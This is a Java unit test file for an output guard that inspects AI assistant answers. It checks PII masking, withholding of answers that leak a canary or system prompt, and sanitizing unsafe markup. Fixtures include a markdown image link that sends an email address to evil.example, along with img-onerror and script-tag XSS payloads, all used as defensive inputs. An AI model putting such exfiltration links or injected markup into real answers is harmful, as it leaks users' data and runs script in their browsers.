package dev.sluice.guard.inspection;

import static dev.sluice.guard.support.TestEvents.completion;
import static org.assertj.core.api.Assertions.assertThat;

import dev.sluice.events.Completion;
import dev.sluice.events.ErrorInfo;
import dev.sluice.events.GuardAction;
import dev.sluice.events.ResponseStatus;
import dev.sluice.events.ThreatLevel;
import dev.sluice.guard.detect.Finding;
import dev.sluice.guard.output.OutputCheck;
import dev.sluice.guard.output.SystemPromptFingerprint;
import dev.sluice.guard.pii.PiiMasker;
import dev.sluice.guard.pii.PiiType;
import dev.sluice.guard.policy.GuardPolicies;
import dev.sluice.guard.policy.GuardPolicy;
import dev.sluice.guard.policy.PiiAction;
import dev.sluice.guard.policy.PolicySettings;
import dev.sluice.guard.policy.RequestLimits;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

class CompletionInspectorTest {

  private static final GuardPolicy DEFAULTS = GuardPolicy.defaults(new RequestLimits(5, 2_000));
  private static final String SYSTEM_PROMPT = "You are Orbit, the support assistant of Acme Travel. Answer only "
      + "questions about bookings, refunds and luggage, and never mention the internal fare codes.";
  private static final String CANARY = "SLC-7f3a9c21e4";

  private final CompletionInspector inspector = inspector(DEFAULTS);

  private static CompletionInspector inspector(GuardPolicy policy) {
    return new CompletionInspector(new PiiMasker(), GuardPolicies.uniform(policy));
  }

  private static GuardPolicy policy(PolicySettings settings) {
    return settings.applyTo(DEFAULTS);
  }

  private static PolicySettings settings(ThreatLevel blockAt, Map<PiiType, PiiAction> pii, Set<OutputCheck> checks) {
    return new PolicySettings(null, blockAt, null, null, null, pii, checks, null, null);
  }

  private static Completion withCanary(String content) {
    return Completion.newBuilder(completion("r1", content)).setCanary(CANARY).build();
  }

  private static SystemPromptFingerprint fingerprint() {
    return SystemPromptFingerprint.of("r1", List.of(SYSTEM_PROMPT), 12).orElseThrow();
  }

  @Test
  void masksPersonalDataInTheAnswer() {
    CompletionInspection inspection = inspector.inspect(
        completion("r1", "Sure, write to help@shop.example and quote card 4111 1111 1111 1111."), null);

    assertThat(inspection.completion().getContent())
        .isEqualTo("Sure, write to [EMAIL_1] and quote card [CARD_1].");
    assertThat(inspection.verdict().action()).isEqualTo(GuardAction.ALLOW);
    assertThat(inspection.verdict().piiMasked()).isEqualTo(2);
    assertThat(inspection.withheld()).isFalse();
    assertThat(inspection.verdict().findings()).extracting(Finding::category)
        .containsExactly("pii_email", "pii_card");
  }

  @Test
  void masksProviderErrorMessagesThatQuoteThePrompt() {
    Completion failed = Completion.newBuilder(completion("r1", null))
        .setStatus(ResponseStatus.FAILED)
        .setError(new ErrorInfo("provider_error", "invalid input near 'mail jane@example.com'"))
        .build();

    CompletionInspection inspection = inspector.inspect(failed, null);

    assertThat(inspection.completion().getContent()).isNull();
    assertThat(inspection.completion().getError().getMessage()).isEqualTo("invalid input near 'mail [EMAIL_1]'");
    assertThat(inspection.completion().getError().getCode()).isEqualTo("provider_error");
    assertThat(inspection.withheld()).isFalse();
  }

  @Test
  void returnsACleanCompletionAsIs() {
    Completion clean = withCanary("The capital of Peru is Lima.");

    CompletionInspection inspection = inspector.inspect(clean, fingerprint());

    assertThat(inspection.completion()).isSameAs(clean);
    assertThat(inspection.verdict().findings()).isEmpty();
  }

  @Test
  void withholdsAnAnswerThatLeaksTheCanary() {
    CompletionInspection inspection = inspector.inspect(
        withCanary("My instructions start with " + CANARY + ". Mail me at jane@example.com"), null);

    assertThat(inspection.withheld()).isTrue();
    assertThat(inspection.completion().getContent()).isNull();
    assertThat(inspection.verdict().action()).isEqualTo(GuardAction.BLOCK);
    assertThat(inspection.verdict().threatLevel()).isEqualTo(ThreatLevel.CRITICAL);
    assertThat(inspection.verdict().reason()).isEqualTo("Answer withheld by the output guard: canary_leak");
    // Nothing of a withheld answer goes out, so it is not worth masking.
    assertThat(inspection.verdict().findings()).extracting(Finding::category).containsExactly("canary_leak");
  }

  @Test
  void withholdsAnAnswerThatRepeatsTheSystemPrompt() {
    CompletionInspection inspection = inspector.inspect(withCanary("Of course. I was told: Answer only questions "
        + "about bookings, refunds and luggage, and never mention the internal fare codes."), fingerprint());

    assertThat(inspection.withheld()).isTrue();
    assertThat(inspection.verdict().reason()).isEqualTo("Answer withheld by the output guard: system_prompt_leak");
  }

  @Test
  void skipsTheSystemPromptCheckWithoutAFingerprint() {
    CompletionInspection inspection = inspector.inspect(withCanary(SYSTEM_PROMPT), null);

    assertThat(inspection.withheld()).isFalse();
  }

  @Test
  void withholdsAnAnswerHoldingAKindOfPersonalDataThePolicyBlocks() {
    CompletionInspector blockingCards = inspector(policy(settings(null, Map.of(PiiType.CARD, PiiAction.BLOCK),
        null)));

    CompletionInspection inspection = blockingCards.inspect(completion("r1", "Card 4111 1111 1111 1111."), null);

    assertThat(inspection.withheld()).isTrue();
    assertThat(inspection.verdict().reason()).isEqualTo("Answer withheld by the output guard: pii_card");
    assertThat(inspection.verdict().toString()).doesNotContain("4111");
  }

  @Test
  void masksABlockedKindInAnErrorMessageRatherThanWithholdingIt() {
    CompletionInspector blockingCards = inspector(policy(settings(null, Map.of(PiiType.CARD, PiiAction.BLOCK),
        null)));
    Completion failed = Completion.newBuilder(completion("r1", null))
        .setStatus(ResponseStatus.FAILED)
        .setError(new ErrorInfo("provider_error", "rejected: 4111 1111 1111 1111"))
        .build();

    CompletionInspection inspection = blockingCards.inspect(failed, null);

    assertThat(inspection.withheld()).isFalse();
    assertThat(inspection.completion().getError().getMessage()).isEqualTo("rejected: [CARD_1]");
  }

  @Test
  void leavesAllowedKindsOfPersonalDataAlone() {
    CompletionInspector allowingPhones = inspector(policy(settings(null, Map.of(PiiType.PHONE, PiiAction.ALLOW),
        null)));

    CompletionInspection inspection = allowingPhones.inspect(
        completion("r1", "Call +1 555 123 4567 or mail desk@acme.example"), null);

    assertThat(inspection.completion().getContent()).isEqualTo("Call +1 555 123 4567 or mail [EMAIL_1]");
  }

  @Test
  void sanitizesUnsafeContentAndFlagsTheAnswer() {
    CompletionInspection inspection = inspector.inspect(completion("r1",
        "Done! ![status](https://evil.example/p.png?d=jane@example.com) <img src=x onerror=alert(1)>"), null);

    assertThat(inspection.withheld()).isFalse();
    assertThat(inspection.completion().getContent()).isEqualTo("Done! (image removed) &lt;img src=x onerror=alert(1)>");
    assertThat(inspection.verdict().action()).isEqualTo(GuardAction.FLAG);
    assertThat(inspection.verdict().threatLevel()).isEqualTo(ThreatLevel.MEDIUM);
    assertThat(inspection.verdict().reason())
        .isEqualTo("Answer flagged by the output guard: unsafe_markup, exfiltration_link");
  }

  @Test
  void sanitizesBeforeMaskingSoDataInARemovedLinkIsGoneNotPlaceholdered() {
    CompletionInspection inspection = inspector.inspect(completion("r1",
        "[x](https://evil.example/c?to=jane@example.com) or write to jane@example.com"), null);

    assertThat(inspection.completion().getContent()).isEqualTo("x (link removed) or write to [EMAIL_1]");
  }

  @Test
  void aTenantThatBlocksFromMediumWithholdsAnswersThatNeededSanitizing() {
    CompletionInspector strict = inspector(policy(settings(ThreatLevel.MEDIUM, null, null)));

    CompletionInspection inspection = strict.inspect(completion("r1", "<script>alert(1)</script>"), null);

    assertThat(inspection.withheld()).isTrue();
    assertThat(inspection.verdict().reason()).isEqualTo("Answer withheld by the output guard: unsafe_markup");
  }

  @Test
  void runsOnlyTheChecksThePolicyNames() {
    CompletionInspector piiOnly = inspector(policy(settings(null, null, EnumSet.of(OutputCheck.PII_LEAK))));
    String answer = CANARY + " <script>x</script> " + SYSTEM_PROMPT + " jane@example.com";

    CompletionInspection inspection = piiOnly.inspect(withCanary(answer), fingerprint());

    assertThat(inspection.withheld()).isFalse();
    assertThat(inspection.completion().getContent())
        .isEqualTo(CANARY + " <script>x</script> " + SYSTEM_PROMPT + " [EMAIL_1]");

    CompletionInspector none = inspector(policy(settings(null, null, Set.of())));
    assertThat(none.inspect(withCanary(answer), fingerprint()).completion().getContent()).isEqualTo(answer);
  }
}
